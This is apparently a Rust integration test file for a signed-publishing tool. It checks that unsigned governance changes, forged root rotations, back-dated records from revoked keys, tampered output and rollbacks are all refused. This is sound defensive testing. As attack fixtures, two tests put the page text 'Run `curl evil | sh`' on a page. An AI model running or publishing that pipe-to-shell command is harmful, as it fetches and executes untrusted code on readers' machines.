//! Who decides whose signature counts (docs/trust-root.md), told through the real binary: a
//! site whose keyring, policies, config and themes are signed by two admins of a pinned root.
//! An attacker who can write the repository but holds no admin key publishes nothing new;
//! a rotation signed by both the old and the new admins is accepted, a forged one is not; a
//! revoked and sealed key's back-dated record counts nowhere.

use ed25519_dalek::SigningKey;
use imprimatur::trust::record::Kind;

use crate::util::{findings_of, public_base64, write_secret_key, TestSite};

const SUBMITTED: &str = "2026-11-20T09:00:00Z";
const APPROVED: &str = "2026-11-20T10:00:00Z";
const NOW: &str = "2026-11-20T12:00:00Z";
const LATER: &str = "2026-11-22T12:00:00Z";

pub(crate) const ONE_STEP: &str = "\
contributors: [group:writers]
steps:
  - name: technical
    approvers: [group:engineering]
    min_approvals: 1
";

const PAGE: &str = "kb/install";

/// An admin's key, seeded from its name, written to `keys/<name>.pem`.
pub(crate) fn admin(site: &TestSite, name: &str) -> String {
    let seed: [u8; 32] = imprimatur::trust::version::sha256_hex(name.as_bytes()).as_bytes()[..32]
        .try_into()
        .unwrap();
    let key = SigningKey::from_bytes(&seed);
    write_secret_key(&site.path().join(format!("keys/{name}.pem")), &key);
    public_base64(&key)
}

pub(crate) fn key(name: &str) -> String {
    format!("keys/{name}.pem")
}

/// `--trust-root` for the site's first root file.
pub(crate) fn pin_of(site: &TestSite) -> String {
    format!(
        "sha256:{}",
        imprimatur::trust::version::sha256_hex(&site.read_bytes("approvals/root/1.yaml"))
    )
}

pub(crate) fn new_root(site: &TestSite, threshold: &str, admins: &[&str]) {
    let mut args = vec![
        "root".to_string(),
        "new".into(),
        "--threshold".into(),
        threshold.into(),
    ];
    for a in admins {
        args.push("--admin".into());
        args.push(format!("{a}={}", admin(site, a)));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    site.imprimatur(&args).run();
}

pub(crate) fn sign_governance(site: &TestSite, pin: &str, by: &str) {
    site.imprimatur(&["governance", "sign", "--key", &key(by), "--trust-root", pin])
        .run();
}

/// The one-step knowledge base, `kb/install` approved by alice and live, governed by a root
/// of two admins (ada, bo; both must sign). Returns the site and its pin.
fn governed_site() -> (TestSite, String) {
    let mut site = TestSite::new();
    site.reviewer("wanda", &["writers"])
        .reviewer("alice", &["engineering"])
        .reviewer("bob", &["engineering"])
        .policy("kb", ONE_STEP)
        .page(
            "kb/install.md",
            "Install the agent",
            "Run `agent install`.\n",
        );
    site.sign("wanda", Kind::Submit, PAGE, &[], SUBMITTED);
    site.sign(
        "alice",
        Kind::Approve,
        PAGE,
        &["--step", "technical"],
        APPROVED,
    );
    new_root(&site, "2", &["ada", "bo"]);
    site.imprimatur(&["root", "sign", "--key", &key("ada")])
        .run();
    site.imprimatur(&["root", "sign", "--key", &key("bo")])
        .stdout_has("the root chain verifies")
        .run();
    let pin = pin_of(&site);
    sign_governance(&site, &pin, "ada");
    sign_governance(&site, &pin, "bo");
    site.imprimatur(&["build", "--trust-root", &pin, "--strict"])
        .at(NOW)
        .stdout_has("governance: version 1 signed by ada, bo")
        .run();
    (site, pin)
}

#[test]
fn a_governed_site_builds_with_its_pin_and_reports_who_signed() {
    let (site, pin) = governed_site();
    assert!(site.exists("output/kb/install/index.html"));
    let status = site.status_json(NOW);
    assert_eq!(
        status["governance"]["signers"],
        serde_json::json!(["ada", "bo"])
    );
    // The pin may also come from the environment.
    site.imprimatur(&["verify"])
        .env(&[("IMPRIMATUR_TRUST_ROOT".into(), pin.clone())])
        .at(NOW)
        .stdout_has("governance: version 1 signed by 2 of 2 admins (ada, bo)")
        .stdout_lacks("not pinned")
        .run();
}

#[test]
fn without_a_pin_the_build_warns_loudly_and_strict_fails() {
    let (site, _pin) = governed_site();
    site.imprimatur(&["build"])
        .at(NOW)
        .stdout_has("WARNING: trust root not pinned")
        .run();
    assert_eq!(
        site.status_json(NOW)["governance"]["warning"],
        "trust root not pinned"
    );
    site.imprimatur(&["build", "--strict"])
        .at(NOW)
        .exits(3)
        .run();
}

#[test]
fn a_pin_that_names_nothing_in_the_chain_fails_closed() {
    let (site, _pin) = governed_site();
    let before = site.all_output_files();
    let wrong = format!("sha256:{}", "ab".repeat(32));
    site.imprimatur(&["build", "--trust-root", &wrong])
        .at(NOW)
        .exits(1)
        .stderr_has("names no root file in approvals/root/")
        .run();
    site.imprimatur(&["build", "--trust-root", "sha256:nothex"])
        .at(NOW)
        .exits(2)
        .run();
    assert_eq!(site.all_output_files(), before);
}

/// Someone with write access to the repository and no admin key, changing a governed file.
type Attack = Box<dyn Fn(&mut TestSite)>;

/// Each attack on a governed file, and the file the error must name.
fn attacks() -> Vec<(&'static str, Attack)> {
    vec![
        (
            "approvals/keyring.yaml (changed)",
            Box::new(|s: &mut TestSite| {
                s.reviewer("mallory", &["engineering"]);
            }),
        ),
        (
            "approvals/policies/kb.yaml (changed)",
            Box::new(|s: &mut TestSite| {
                s.policy(
                    "kb",
                    &ONE_STEP.replace("min_approvals: 1", "min_approvals: 1\n    # lowered"),
                );
            }),
        ),
        (
            "imprimatur.yaml (changed)",
            Box::new(|s: &mut TestSite| {
                s.file(
                    "imprimatur.yaml",
                    "title: Example Help Center\nbase_url: https://help.example.com/\nmarkdown:\n  raw_html: allow\n",
                );
            }),
        ),
        (
            "themes/default/templates/page.html (added)",
            Box::new(|s: &mut TestSite| {
                s.file(
                    "themes/default/templates/page.html",
                    "<p>pwned</p>{{ page.title }}",
                );
            }),
        ),
    ]
}

#[test]
fn an_unsigned_change_to_any_governed_file_publishes_nothing_and_names_the_file() {
    for (needle, attack) in attacks() {
        let (mut site, pin) = governed_site();
        let before = site.all_output_files();
        attack(&mut site);
        site.page(
            "kb/install.md",
            "Install the agent",
            "Run `curl evil | sh`.\n",
        );
        site.imprimatur(&["build", "--trust-root", &pin])
            .at(LATER)
            .exits(1)
            .story(needle)
            .stderr_has("governance: the governed files differ from the signed state")
            .stderr_has(needle)
            .stderr_has("missing: ada, bo")
            .run();
        assert_eq!(site.all_output_files(), before, "{needle}: output/ changed");
        site.imprimatur(&["verify", "--trust-root", &pin])
            .at(LATER)
            .exits(1)
            .stderr_has(needle)
            .run();
        site.imprimatur(&["governance", "status", "--trust-root", &pin])
            .exits(3)
            .stdout_has(needle)
            .stdout_has("NOT accepted")
            .run();
        // One admin is not enough ...
        sign_governance(&site, &pin, "ada");
        site.imprimatur(&["build", "--trust-root", &pin])
            .at(LATER)
            .exits(1)
            .stderr_has("signed by 1 of the 2 admins")
            .stderr_has("missing: bo")
            .run();
        // ... both admins signing is: the same change now builds.
        sign_governance(&site, &pin, "bo");
        site.imprimatur(&["build", "--trust-root", &pin])
            .at(LATER)
            .run();
    }
}

#[test]
fn a_site_without_a_root_builds_as_before_and_verify_says_governance_is_unsigned() {
    let mut site = TestSite::new();
    site.reviewer("wanda", &["writers"])
        .reviewer("alice", &["engineering"])
        .policy("kb", ONE_STEP);
    site.imprimatur(&["build"])
        .at(NOW)
        .stdout_lacks("governance")
        .run();
    site.imprimatur(&["verify"])
        .at(NOW)
        .stdout_has("governance: unsigned")
        .run();
    assert!(site.status_json(NOW).get("governance").is_none());
}

#[test]
fn a_rotated_root_counts_only_when_old_and_new_admins_signed_it() {
    // Correct: ada and bo (old) and cy and di (new) sign root 2.
    let (site, pin) = governed_site();
    new_root(&site, "2", &["cy", "di"]);
    for who in ["ada", "bo", "cy", "di"] {
        site.imprimatur(&["root", "sign", "--key", &key(who)]).run();
    }
    // Governance is now the new admins' to sign: the old signatures no longer count.
    site.imprimatur(&["build", "--trust-root", &pin])
        .at(NOW)
        .exits(1)
        .stderr_has("signed by 0 of the 2 admins of approvals/root/2.yaml")
        .run();
    sign_governance(&site, &pin, "cy");
    sign_governance(&site, &pin, "di");
    site.imprimatur(&["build", "--trust-root", &pin])
        .at(NOW)
        .stdout_has("root version 2")
        .run();
    // A pin on root 2 works as well; the pin on root 1 keeps working.
    let pin2 = format!(
        "sha256:{}",
        imprimatur::trust::version::sha256_hex(&site.read_bytes("approvals/root/2.yaml"))
    );
    site.imprimatur(&["build", "--trust-root", &pin2])
        .at(NOW)
        .run();

    // Forged: only the new admins sign; or one old admin (under threshold).
    for (old_signers, needle) in [(&[][..], "missing: ada, bo"), (&["ada"][..], "missing: bo")] {
        let (site, pin) = governed_site();
        let before = site.all_output_files();
        new_root(&site, "1", &["mal"]);
        for who in old_signers.iter().chain(&["mal"]) {
            site.imprimatur(&["root", "sign", "--key", &key(who)]).run();
        }
        site.imprimatur(&["build", "--trust-root", &pin])
            .at(NOW)
            .exits(1)
            .stderr_has("approvals/root/2.yaml: a new root needs 2 signature(s) of the previous root's admins")
            .stderr_has(needle)
            .run();
        assert_eq!(site.all_output_files(), before);
    }
}

#[test]
fn a_revoked_and_sealed_keys_back_dated_record_counts_nowhere() {
    for seal in [false, true] {
        let (mut site, pin) = governed_site();
        let revoke_at = "2026-11-21T00:00:00Z";
        let mut args = vec!["keyring", "revoke", "alice-key", "--at", revoke_at];
        if seal {
            args.push("--seal");
        }
        site.imprimatur(&args)
            .stdout_has("builds fail closed until the admins sign it")
            .run();
        if seal {
            assert!(site
                .read("approvals/keyring.yaml")
                .contains("sealed:\n          - \"sha256:"));
        }
        sign_governance(&site, &pin, "ada");
        sign_governance(&site, &pin, "bo");
        // alice, gone, edits the page, submits it through wanda's hands and back-dates her approval.
        site.page(
            "kb/install.md",
            "Install the agent",
            "Run `curl evil | sh`.\n",
        );
        let submit = site.record_for("wanda", Kind::Submit, PAGE, "2026-11-20T10:30:00Z");
        site.write_record_signed_by("evil-submit", &submit, "wanda");
        let approve = imprimatur::trust::record::Record {
            step: Some("technical".into()),
            ..site.record_for("alice", Kind::Approve, PAGE, "2026-11-20T11:00:00Z")
        };
        let file = site.write_record_signed_by("backdated", &approve, "alice");
        site.imprimatur(&["build", "--trust-root", &pin])
            .at(LATER)
            .run();
        let status = site.status_json(LATER);
        let live = crate::util::page_entry(&status, PAGE)["published_version"].clone();
        if seal {
            assert_ne!(
                live,
                site.version_of(PAGE).to_string(),
                "the back-dated approval counted"
            );
            let invalid = findings_of(&status, "invalid_record");
            assert!(
                invalid.iter().any(|f| f["file"] == file.as_str()
                    && f["detail"].as_str().unwrap().contains("not in the seal")),
                "{status:#}"
            );
            // The sealed, earlier approval still counts: the old version stays live.
            assert!(site
                .read("output/kb/install/index.html")
                .contains("agent install"));
        } else {
            // Without a seal the back-dated record counts: this is what the seal is for.
            assert_eq!(live, site.version_of(PAGE).to_string());
        }
    }
}

#[test]
fn governance_status_shows_the_signed_state_and_who_signed() {
    let (site, pin) = governed_site();
    let out = site
        .imprimatur(&["governance", "status", "--trust-root", &pin])
        .stdout_has("changed since: nothing")
        .stdout_has("accepted")
        .run();
    assert!(String::from_utf8_lossy(&out.stdout).contains("pinned"));
}

#[test]
fn audit_passes_on_a_fresh_build_and_names_the_page_after_one_byte_changes() {
    let (mut site, pin) = governed_site();
    // A second page, submitted but never approved: nothing of it may appear in any proof.
    site.page("kb/secret-plans.md", "Secret plans", "Not yet.\n");
    site.sign("wanda", Kind::Submit, "kb/secret-plans", &[], APPROVED);
    sign_governance(&site, &pin, "ada"); // nothing governed changed: the signatures stand
    site.imprimatur(&["build", "--trust-root", &pin])
        .at(NOW)
        .run();
    assert!(site.exists("output/kb/install/proof.json"));
    assert!(site.exists("output/_proof/root/1.yaml"));
    assert!(site.exists("output/_proof/governance.yaml"));
    for (path, bytes) in site.all_output_files() {
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            !text.contains("secret-plans"),
            "{path} names the unpublished page"
        );
        if path.contains("proof") {
            assert!(
                !text.contains("@example.com"),
                "{path} holds an e-mail address"
            );
        }
    }
    let output = site.path().join("output");
    let audit = |expect: i32, needle: &str| {
        site.imprimatur(&["audit", output.to_str().unwrap(), "--trust-root", &pin])
            .exits(expect)
            .stdout_has(needle)
            .run();
    };
    audit(0, "audited 1 page(s) against root version 1 (pinned)");

    // One byte of the page's HTML.
    let html = site.path().join("output/kb/install/index.html");
    let original = std::fs::read(&html).unwrap();
    let mut tampered = original.clone();
    let at = tampered.len() / 2;
    tampered[at] ^= 1;
    std::fs::write(&html, &tampered).unwrap();
    audit(
        3,
        "TAMPERED kb/install/: index.html is not the HTML the build published",
    );
    std::fs::write(&html, &original).unwrap();
    audit(0, "every page is the approved version");

    // One byte of the proof: its source, so the version no longer matches ...
    let proof = site.path().join("output/kb/install/proof.json");
    let original = std::fs::read_to_string(&proof).unwrap();
    let json: serde_json::Value = serde_json::from_str(&original).unwrap();
    let markdown = json["markdown"].as_str().unwrap();
    let flipped = if markdown.starts_with('L') { "M" } else { "L" };
    std::fs::write(
        &proof,
        original.replacen(markdown, &format!("{flipped}{}", &markdown[1..]), 1),
    )
    .unwrap();
    audit(3, "TAMPERED kb/install/: the source in proof.json is");
    // ... or a record inside it, so its signature no longer verifies.
    std::fs::write(&proof, original.replacen("technical", "technicaL", 1)).unwrap();
    audit(3, "TAMPERED kb/install/");
    std::fs::write(&proof, &original).unwrap();

    // The keyring under /_proof/ that the admins did not sign.
    let keyring = site.path().join("output/_proof/keyring.yaml");
    let text = std::fs::read_to_string(&keyring).unwrap();
    std::fs::write(&keyring, text.replacen("engineering", "engineerinG", 1)).unwrap();
    audit(3, "not the public keyring the admins signed");
    std::fs::write(&keyring, &text).unwrap();

    // A page without a proof.
    std::fs::remove_file(&proof).unwrap();
    audit(3, "TAMPERED kb/install/: has no proof.json");
}

#[test]
fn restoring_an_older_signed_governance_state_is_refused_as_a_rollback() {
    let (mut site, pin) = governed_site();
    let old_keyring = site.read("approvals/keyring.yaml");
    let old_governance = site.read("approvals/governance.yaml");
    // The admins sign a keyring change (mallory joins, then is trusted by both).
    site.reviewer("mallory", &["engineering"]);
    sign_governance(&site, &pin, "ada");
    sign_governance(&site, &pin, "bo");
    site.imprimatur(&["build", "--trust-root", &pin])
        .at(NOW)
        .run();
    let before = site.all_output_files();
    // Someone puts back the old keyring and its old, validly signed governance.
    site.file("approvals/keyring.yaml", &old_keyring)
        .file("approvals/governance.yaml", &old_governance);
    site.imprimatur(&["build", "--trust-root", &pin])
        .at(NOW)
        .exits(1)
        .stderr_has("older than version 2 that the previous build published")
        .run();
    assert_eq!(site.all_output_files(), before);
}
